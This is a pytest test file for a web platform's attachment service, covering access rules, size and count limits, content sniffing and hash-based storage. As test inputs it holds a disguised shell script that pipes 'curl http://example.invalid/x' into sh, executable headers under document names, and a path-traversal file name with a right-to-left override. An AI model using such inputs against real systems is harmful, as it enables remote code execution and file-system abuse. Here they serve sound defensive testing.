"""Attachments: uploaded by whoever may edit the parent, seen by whoever may see it (others
get 404), accepted by their content and size, stored by their hash, removed with the parent."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session, sessionmaker

from backend.attachments import service
from backend.auth.models import User
from backend.config import Settings
from backend.db.session import transaction
from tests.conftest import BOTH_DATABASES
from tests.fixtures.api import Actor, demand_body, register, solution_body, staff
from tests.integration.api.test_review_rules import Stage

pytestmark = BOTH_DATABASES

MAX_BYTES = 64 * 1024
MAX_COUNT = 3
PDF = b"%PDF-1.7\n" + "储能电站".encode() + bytes(range(256)) * 8 + b"\n%%EOF\n"
NAME = "储能电站热失控预警方案（第二版）.pdf"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(500)


@pytest.fixture
def settings(database_url: str, tmp_path: Path) -> Settings:
    return Settings(  # type: ignore[call-arg]
        DATABASE_URL=database_url,
        SCENARIOHUB_DATA_DIR=tmp_path / "data",
        SCENARIOHUB_MATCHER=False,
        SCENARIOHUB_FRONTEND_DIST=tmp_path / "no-dist",
        SCENARIOHUB_ATTACHMENT_MAX_BYTES=MAX_BYTES,
        SCENARIOHUB_ATTACHMENT_MAX_COUNT=MAX_COUNT,
    )


def upload(actor: Actor, url: str, content: bytes = PDF, name: str = NAME, **kw: Any) -> Any:
    return actor.post(url, files={"file": (name, content, "application/octet-stream")}, **kw)


def draft(publisher: Actor) -> int:
    return int(publisher.post("/api/v1/demands", demand_body()).json()["id"])


def stored(settings: Settings, sha256: str) -> Path:
    return settings.attachments_dir / sha256[:2] / sha256[2:4] / sha256


def test_a_file_goes_up_and_comes_back_byte_for_byte_with_its_chinese_name(
    client: TestClient, settings: Settings
) -> None:
    publisher = register(client, ["publisher"])
    demand_id = draft(publisher)
    r = upload(publisher, f"/api/v1/demands/{demand_id}/attachments")
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["filename"] == NAME and body["size"] == len(PDF)
    assert body["content_type"] == "application/pdf" and len(body["sha256"]) == 64
    assert set(body) == {"id", "filename", "size", "content_type", "sha256", "created_at"}

    got = publisher.get(f"/api/v1/attachments/{body['id']}")
    assert got.status_code == 200
    assert got.content == PDF
    assert got.headers["content-type"] == "application/pdf"
    assert got.headers["x-content-type-options"] == "nosniff"
    disposition = got.headers["content-disposition"]
    assert disposition.startswith("attachment; ")
    assert f"filename*=UTF-8''{quote(NAME, safe='')}" in disposition
    assert 'filename="' in disposition and disposition.encode("latin-1").isascii()

    demand = publisher.get(f"/api/v1/demands/{demand_id}").json()
    assert [a["id"] for a in demand["attachments"]] == [body["id"]]
    assert "edit_attachments" in [a["action"] for a in demand["next_actions"]]
    assert not list((settings.attachments_dir / "tmp").iterdir())  # nothing left staged


def test_a_drafts_attachments_are_its_organizations_and_a_published_ones_are_public(
    client: TestClient, session_factory: sessionmaker[Session]
) -> None:
    publisher = register(client, ["publisher"])
    other = register(client, ["publisher"])
    official = staff(client, session_factory, "official")
    demand_id = draft(publisher)
    attachment = upload(publisher, f"/api/v1/demands/{demand_id}/attachments").json()
    url = f"/api/v1/attachments/{attachment['id']}"

    assert publisher.get(url).status_code == 200
    assert official.get(url).status_code == 200  # the region's officials pre-check drafts
    assert other.get(url).status_code == 404
    assert client.get(url).status_code == 404

    publisher.post(f"/api/v1/demands/{demand_id}/submit")
    official.post(f"/api/v1/demands/{demand_id}/publish")
    assert client.get(url).status_code == 200
    assert other.get(url).content == PDF
    public = client.get(f"/api/v1/public/demands/{demand_id}").json()
    assert [a["filename"] for a in public["attachments"]] == [NAME]


def test_a_proposals_attachments_are_its_providers_the_publishers_and_the_officials(
    client: TestClient, session_factory: sessionmaker[Session]
) -> None:
    publisher = register(client, ["publisher"])
    provider = register(client, ["provider"])
    rival = register(client, ["provider"])
    official = staff(client, session_factory, "official")
    demand_id = draft(publisher)
    publisher.post(f"/api/v1/demands/{demand_id}/submit")
    official.post(f"/api/v1/demands/{demand_id}/publish")
    solution = provider.post("/api/v1/solutions", solution_body()).json()
    proposal = provider.post(
        f"/api/v1/demands/{demand_id}/proposals",
        {"solution_id": solution["id"], "summary": "分两期建设的电池安全预警系统方案"},
    ).json()

    r = upload(provider, f"/api/v1/proposals/{proposal['id']}/attachments")
    assert r.status_code == 201, r.text
    url = f"/api/v1/attachments/{r.json()['id']}"
    for reader in (provider, publisher, official):
        assert reader.get(url).status_code == 200
    assert rival.get(url).status_code == 404
    assert client.get(url).status_code == 404
    # the publisher may read it, not change it
    assert upload(publisher, f"/api/v1/proposals/{proposal['id']}/attachments").status_code == 403
    listed = publisher.get(f"/api/v1/demands/{demand_id}/proposals").json()
    assert [a["id"] for a in listed[0]["attachments"]] == [r.json()["id"]]


def test_an_applications_attachments_reach_its_assigned_experts_but_no_other(
    client: TestClient, session_factory: sessionmaker[Session]
) -> None:
    s = Stage(client, session_factory)
    r = upload(s.provider, s.url("/attachments"), name="试点运行数据.pdf")
    assert r.status_code == 201, r.text
    url = f"/api/v1/attachments/{r.json()['id']}"
    assigned, stranger = s.experts(3), s.experts(1)[0]
    s.to_expert_review(assigned)

    for reader in (s.publisher, s.provider, s.official, assigned[0]):
        assert reader.get(url).status_code == 200, reader.user["email"]
    assert stranger.get(url).status_code == 404
    assert register(client, ["provider"]).get(url).status_code == 404
    assert client.get(url).status_code == 404
    seen = assigned[0].get(s.url()).json()
    assert [a["filename"] for a in seen["attachments"]] == ["试点运行数据.pdf"]
    # in expert review the material is fixed: the parties can no longer change it
    assert s.provider.client.delete(url, headers=s.provider.headers).status_code == 409
    assert upload(s.publisher, s.url("/attachments")).status_code == 409


def test_a_file_past_the_limit_is_refused_while_it_streams(
    client: TestClient, settings: Settings
) -> None:
    publisher = register(client, ["publisher"])
    demand_id = draft(publisher)
    big = b"%PDF-1.7\n" + bytes(MAX_BYTES)
    r = upload(publisher, f"/api/v1/demands/{demand_id}/attachments", big)
    assert r.status_code == 413
    assert r.json()["code"] == "attachment.too_large" and "附件过大" in r.json()["message"]
    english = upload(
        publisher,
        f"/api/v1/demands/{demand_id}/attachments",
        big,
        headers={"Accept-Language": "en"},
    )
    assert english.json()["message"].startswith("The attachment is too large")
    # a body past what any attachment needs is refused at the edge, before it is read
    huge = upload(publisher, f"/api/v1/demands/{demand_id}/attachments", bytes(5 * 1024 * 1024))
    assert huge.status_code == 413 and huge.json()["code"] == "attachment.too_large"
    assert publisher.get(f"/api/v1/demands/{demand_id}").json()["attachments"] == []
    assert not list((settings.attachments_dir / "tmp").iterdir())


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (ELF, "可行性研究报告.pdf"),
        (b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200), "报价单.docx"),
        (b"#!/bin/sh\ncurl http://example.invalid/x | sh\n", "说明.pdf"),
        ("需求说明".encode("gb18030"), "需求说明.txt"),  # not UTF-8
    ],
)
def test_a_disguised_program_or_an_unknown_kind_is_refused_by_its_content(
    client: TestClient, content: bytes, name: str
) -> None:
    publisher = register(client, ["publisher"])
    demand_id = draft(publisher)
    r = upload(publisher, f"/api/v1/demands/{demand_id}/attachments", content, name)
    assert r.status_code == 415
    assert r.json()["code"] == "attachment.unsupported_type"
    assert r.json()["message"].startswith("不支持的文件类型")
    assert publisher.get(f"/api/v1/demands/{demand_id}").json()["attachments"] == []


def test_the_owner_deletes_while_the_parent_is_editable_and_others_cannot_find_it(
    client: TestClient, session_factory: sessionmaker[Session], settings: Settings
) -> None:
    publisher = register(client, ["publisher"])
    other = register(client, ["publisher"])
    demand_id = draft(publisher)
    first = upload(publisher, f"/api/v1/demands/{demand_id}/attachments").json()
    second = upload(publisher, f"/api/v1/demands/{demand_id}/attachments", name="副本.pdf").json()
    assert first["sha256"] == second["sha256"]  # the same bytes are stored once

    assert (
        other.client.delete(f"/api/v1/attachments/{first['id']}", headers=other.headers).status_code
        == 404
    )
    delete = client.delete(f"/api/v1/attachments/{first['id']}", headers=publisher.headers)
    assert delete.status_code == 204
    assert publisher.get(f"/api/v1/attachments/{first['id']}").status_code == 404
    # the other attachment still names the bytes: they stay
    assert publisher.get(f"/api/v1/attachments/{second['id']}").content == PDF
    assert stored(settings, second["sha256"]).exists()

    publisher.post(f"/api/v1/demands/{demand_id}/submit")
    late = client.delete(f"/api/v1/attachments/{second['id']}", headers=publisher.headers)
    assert late.status_code == 409
    assert late.json()["message"].startswith("当前状态为「已提交」")


def test_the_last_reference_gone_the_bytes_go_and_a_deleted_parent_takes_its_attachments(
    client: TestClient, settings: Settings
) -> None:
    publisher = register(client, ["publisher"])
    demand_id = draft(publisher)
    only = upload(publisher, f"/api/v1/demands/{demand_id}/attachments").json()
    client.delete(f"/api/v1/attachments/{only['id']}", headers=publisher.headers)
    assert not stored(settings, only["sha256"]).exists()

    kept = upload(publisher, f"/api/v1/demands/{demand_id}/attachments").json()
    assert (
        client.delete(f"/api/v1/demands/{demand_id}", headers=publisher.headers).status_code == 204
    )
    assert publisher.get(f"/api/v1/attachments/{kept['id']}").status_code == 404
    assert not stored(settings, kept["sha256"]).exists()


def test_a_solution_takes_at_most_the_configured_number_of_attachments(
    client: TestClient,
) -> None:
    provider = register(client, ["provider"])
    solution = provider.post("/api/v1/solutions", solution_body()).json()
    url = f"/api/v1/solutions/{solution['id']}/attachments"
    text = "技术参数：检测精度 ±0.5℃，响应时间 < 2 s。\n".encode()
    for n in range(MAX_COUNT):
        assert upload(provider, url, text, f"参数{n}.txt").status_code == 201
    refused = upload(provider, url, text, "参数.txt")
    assert refused.status_code == 409 and refused.json()["code"] == "attachment.too_many"
    got = provider.get(f"/api/v1/solutions/{solution['id']}").json()["attachments"]
    assert [a["content_type"] for a in got] == ["text/plain; charset=utf-8"] * MAX_COUNT


def test_a_file_gone_from_disk_is_a_clean_404(client: TestClient, settings: Settings) -> None:
    publisher = register(client, ["publisher"])
    demand_id = draft(publisher)
    body = upload(publisher, f"/api/v1/demands/{demand_id}/attachments").json()
    stored(settings, body["sha256"]).unlink()
    r = publisher.get(f"/api/v1/attachments/{body['id']}")
    assert r.status_code == 404
    assert r.json()["code"] == "attachment.missing" and "丢失" in r.json()["message"]


def test_a_file_name_keeps_its_chinese_and_loses_its_path_and_invisible_characters(
    client: TestClient,
) -> None:
    publisher = register(client, ["publisher"])
    demand_id = draft(publisher)
    r = upload(
        publisher,
        f"/api/v1/demands/{demand_id}/attachments",
        name="../../etc/项目\u202e申报书.pdf",  # a right-to-left override can disguise a name
    )
    assert r.status_code == 201, r.text
    assert r.json()["filename"] == "项目申报书.pdf"


def test_the_bytes_of_an_upload_whose_transaction_rolls_back_are_not_kept(
    client: TestClient, session_factory: sessionmaker[Session], settings: Settings
) -> None:
    publisher = register(client, ["publisher"])
    demand_id = draft(publisher)
    with pytest.raises(RuntimeError), transaction(session_factory) as session:
        user = session.get(User, publisher.id)
        assert user is not None
        attachment = service.upload(
            session,
            parent_type="demand",
            parent_id=demand_id,
            user=user,
            source=io.BytesIO(PDF),
            filename=NAME,
            settings=settings,
        )
        sha256 = attachment.sha256
        assert stored(settings, sha256).exists()
        raise RuntimeError("the commit never comes")
    assert not stored(settings, sha256).exists()
    assert publisher.get(f"/api/v1/demands/{demand_id}").json()["attachments"] == []
